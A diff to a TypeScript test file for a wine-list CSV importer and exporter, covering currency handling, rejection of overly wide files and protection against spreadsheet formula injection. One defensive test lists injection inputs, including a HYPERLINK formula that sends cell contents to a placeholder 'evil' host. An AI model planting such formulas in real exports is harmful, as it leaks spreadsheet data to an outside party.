@@ -1,5 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { WineDocument } from '@rose/core/wine/facts';
+import { emptyWine, type WineDocument } from '@rose/core/wine/facts';
 import type { Member } from '../command';
 import { Problem } from '../problem';
 import { newMember, ownDatabase, run } from '../testing/venue';
@@ -40,7 +40,7 @@ describe('a wine list from CSV', () => {
       '\uFEFFWine;Producer;Year;Grapes;Alcohol;Price\r\n"Slate; Wire";Haus am Steg;2021;Riesling;12,5;19,50\r\n',
       'Wine\tProducer\tYear\tGrapes\tAlcohol\tPrice\nSlate Wire\tHaus am Steg\tNV\tRiesling 85 %, Silvaner\t12.5 % vol\t€ 19.50',
     ];
-    const documents = lists.flatMap((csv) => readList(csv, {}).rows.map((row) => row.document));
+    const documents = lists.flatMap((csv) => readList(csv, {}, 'EUR').rows.map((row) => row.document));
     expect(documents.map((document) => document.name)).toEqual(['Slate, Wire', 'Slate; Wire', 'Slate Wire']);
     expect(documents[0]!.producer).toBe('Haus "am" Steg');
     for (const document of documents)
@@ -51,6 +51,29 @@ describe('a wine list from CSV', () => {
       { grape: 'Silvaner', share: { kind: 'unknown' } },
     ]);
     expect(guessMapping(['Cuvée', 'Winery', 'Bottles', 'Nothing like it'])).toEqual({ Cuvée: 'name', Winery: 'producer', Bottles: 'held' });
+  });
+  it('a price that names no currency is in the venue’s; a sign is read as the venue’s own where it has that sign', () => {
+    const priced = (price: string, usual: string) => {
+      const { currency, priceMinor } = readList(`name,price\nA wine,"${price}"`, {}, usual).rows[0]!.document.lots[0]!;
+      return [currency, priceMinor];
+    };
+    expect(priced('19.50', 'USD')).toEqual(['USD', 1950]);
+    expect(priced('$19.50', 'AUD')).toEqual(['AUD', 1950]);
+    expect(priced('$19.50', 'EUR')).toEqual(['USD', 1950]);
+    expect(priced('£19.50', 'USD')).toEqual(['GBP', 1950]);
+    expect(priced('CHF 19.50', 'EUR')).toEqual(['CHF', 1950]);
+  });
+  it('a file with more columns than a wine list has is refused before its headings are read', () => {
+    const wide = `name${','.repeat(1_700_000)}\nx`;
+    expect(() => readList(wide, {}, 'EUR')).toThrow(/columns/);
+    expect(() => readList(`name${','.repeat(150)}\nx`, {}, 'EUR')).not.toThrow();
+  });
+  it('a text that a spreadsheet would take for a formula is kept from it, and reads back as it was', () => {
+    for (const name of ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', "'plain", 'plain']) {
+      const written = writeList([{ ...emptyWine, name }]);
+      expect(written).not.toMatch(/^[=+\-@]|(?<=[\r\n,"])[=+\-@]/);
+      expect(readList(written, {}, 'EUR').rows[0]!.document.name).toBe(name);
+    }
   });
   it('imports all or nothing: with 30 % bad rows every bad field is named and no wine is added', async () => {
     owner = await newMember();
@@ -128,10 +151,10 @@ describe('a wine list from CSV', () => {
         country: 'IT',
       }),
     };
-    const back = readList(writeList([wine]), {});
+    const back = readList(writeList([wine]), {}, 'EUR');
     expect(back.errors).toEqual([]);
     expect(back.rows.map(({ document }) => ({ ...document, lots: document.lots.map((lot) => ({ ...lot, id: wine.lots[0]!.id })) }))).toEqual([wine]);
-    const json = readList(JSON.stringify([wine]), {});
+    const json = readList(JSON.stringify([wine]), {}, 'EUR');
     expect(json.rows[0]!.document.facts).toEqual(wine.facts);
   });
 });
